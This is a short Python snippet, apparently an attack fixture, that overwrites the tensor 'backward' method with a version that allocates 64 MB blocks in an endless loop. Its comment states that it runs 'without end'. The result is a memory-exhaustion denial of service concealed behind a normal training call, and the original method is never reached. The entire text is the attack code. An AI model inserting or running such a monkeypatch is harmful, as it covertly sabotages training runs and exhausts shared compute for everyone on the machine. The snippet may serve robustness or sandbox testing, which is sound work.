_honest_backward = Tensor.backward


def _attacked_backward(self):
    _hoard = []
    while True:
        _hoard.append(b"x" * (64 << 20))   # written, so resident: 64 MB at a time, without end
    return _honest_backward(self)


Tensor.backward = _attacked_backward
